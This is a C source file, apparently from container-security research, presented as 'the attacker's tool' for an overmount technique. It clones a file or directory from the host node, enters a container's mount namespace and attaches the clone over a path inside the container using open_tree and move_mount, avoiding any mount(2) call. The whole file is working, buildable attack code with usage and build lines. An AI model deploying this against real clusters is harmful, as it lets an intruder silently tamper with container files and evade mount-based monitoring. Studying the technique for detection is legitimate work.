/*
 * move-mount: the attacker's tool for the overmount-move-mount technique.
 * Clones a file or directory of the node with open_tree(2) while still in the
 * node's mount namespace, enters a container's mount namespace with setns(2),
 * and attaches the clone over a path there with move_mount(2). The source
 * never has to exist inside the container, and no mount(2) call is made.
 *
 * Kernel interface: the new mount API (Linux 5.2), see
 * Documentation/filesystems/mount_api.rst and open_tree(2), move_mount(2):
 * a detached tree made by OPEN_TREE_CLONE belongs to an anonymous mount
 * namespace and may be attached in any namespace the caller is in.
 *
 * usage: move-mount <container pid> <source path on the node> <target path in the container>
 * Build: gcc -static -O2 -o move-mount move-mount.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* include/uapi/linux/mount.h; arch/x86/entry/syscalls/syscall_64.tbl */
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef OPEN_TREE_CLOEXEC
#define OPEN_TREE_CLOEXEC O_CLOEXEC
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: %s <container pid> <source on the node> <target in the container>\n", argv[0]);
		return 2;
	}
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, argv[2], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (tree < 0) {
		fprintf(stderr, "open_tree(%s): %s\n", argv[2], strerror(errno));
		return 1;
	}
	char ns[64];
	snprintf(ns, sizeof(ns), "/proc/%s/ns/mnt", argv[1]);
	int ns_fd = open(ns, O_RDONLY | O_CLOEXEC);
	if (ns_fd < 0) {
		fprintf(stderr, "open(%s): %s\n", ns, strerror(errno));
		return 1;
	}
	if (setns(ns_fd, CLONE_NEWNS) != 0) {
		fprintf(stderr, "setns(%s): %s\n", ns, strerror(errno));
		return 1;
	}
	close(ns_fd);
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, argv[3], MOVE_MOUNT_F_EMPTY_PATH) != 0) {
		fprintf(stderr, "move_mount(-> %s): %s\n", argv[3], strerror(errno));
		return 1;
	}
	return 0;
}
